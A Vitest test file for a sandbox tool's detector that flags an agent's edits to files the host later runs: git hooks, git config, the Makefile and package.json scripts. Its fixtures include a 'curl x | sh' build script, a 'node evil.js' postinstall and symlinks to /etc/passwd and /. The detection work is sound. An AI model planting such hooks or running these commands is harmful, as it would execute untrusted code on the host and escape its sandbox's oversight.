/** The agent's edits to files the host runs later: the pure compare and the no-follow snapshot. */
import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import {
  hostExecutedEdits,
  hostExecutedWarnings,
  type HostExecSnapshot,
} from "../../src/sandbox/host-executed-edits.js";
import { snapshotHostExecuted } from "../../src/sandbox/host-executed-snapshot.js";

const snap = (files: Record<string, string>, packageScripts: Record<string, string> | null = null) =>
  ({ files, packageScripts }) satisfies HostExecSnapshot;

describe("hostExecutedEdits", () => {
  it("lists added, changed and removed files, then package.json scripts compared as data", () => {
    const before = snap(
      { ".git/config": "sha256:a", Makefile: "sha256:m", ".envrc": "sha256:e" },
      { test: "vitest", build: "tsc" },
    );
    const after = snap(
      { ".git/config": "sha256:b", Makefile: "sha256:m", ".git/hooks/pre-commit": "sha256:h" },
      { test: "vitest", build: "curl x | sh", postinstall: "node evil.js" },
    );
    const edits = hostExecutedEdits(before, after);
    expect(edits.map((e) => [e.path, e.change, e.script])).toEqual([
      [".envrc", "removed", undefined],
      [".git/config", "modified", undefined],
      [".git/hooks/pre-commit", "added", undefined],
      ["package.json", "modified", "build"],
      ["package.json", "added", "postinstall"],
    ]);
    expect(hostExecutedWarnings(edits)[2]).toMatch(
      /^WARNING: the agent added \.git\/hooks\/pre-commit; git runs it as a hook/,
    );
    expect(hostExecutedWarnings(edits)[3]).toMatch(/the script "build" in package\.json; npm runs it/);
  });

  it("no change is no edit; the pre-start hook is named as ocbox's", () => {
    const s = snap({ Makefile: "sha256:m" }, { a: "b" });
    expect(hostExecutedEdits(s, s)).toEqual([]);
    const [edit] = hostExecutedEdits(snap({}), snap({ ".ocbox/pre-start.sh": "x" }), ".ocbox/pre-start.sh");
    expect(edit?.runBy).toMatch(/ocbox up. sources it/);
  });
});

describe("snapshotHostExecuted", () => {
  it("fingerprints the watched files without following links; samples and other files are ignored", async () => {
    const ws = mkdtempSync(join(tmpdir(), "ocbox-hostexec-"));
    mkdirSync(join(ws, ".git", "hooks"), { recursive: true });
    writeFileSync(join(ws, ".git", "config"), "[core]\n");
    writeFileSync(join(ws, ".git", "hooks", "pre-commit.sample"), "x");
    writeFileSync(join(ws, "README.md"), "x");
    writeFileSync(join(ws, "package.json"), JSON.stringify({ scripts: { test: "vitest" } }));
    const before = await snapshotHostExecuted(ws, ".ocbox/pre-start.sh");
    expect(Object.keys(before.files)).toEqual([".git/config"]);
    expect(before.packageScripts).toEqual({ test: "vitest" });

    writeFileSync(join(ws, ".git", "hooks", "pre-commit"), "#!/bin/sh\n");
    chmodSync(join(ws, ".git", "hooks", "pre-commit"), 0o755);
    symlinkSync("/etc/passwd", join(ws, "Makefile"));
    mkdirSync(join(ws, ".vscode"));
    symlinkSync("/etc", join(ws, ".vscode", "x"));
    writeFileSync(join(ws, "README.md"), "changed");
    const after = await snapshotHostExecuted(ws, ".ocbox/pre-start.sh");
    expect(after.files.Makefile).toBe("symlink:/etc/passwd");
    expect(after.files[".git/hooks/pre-commit"]).toMatch(/^sha256:[0-9a-f]{64}:10:x$/);
    expect(hostExecutedEdits(before, after).map((e) => e.path)).toEqual([
      ".git/hooks/pre-commit",
      "Makefile",
    ]);

    // A `.git` swapped for a link is itself an edit, and nothing under it is read through the link.
    rmSync(join(ws, ".git"), { recursive: true });
    symlinkSync("/", join(ws, ".git"));
    const swapped = await snapshotHostExecuted(ws);
    expect(swapped.files).toEqual({ ".git": "symlink:/", Makefile: "symlink:/etc/passwd" });
  });
});
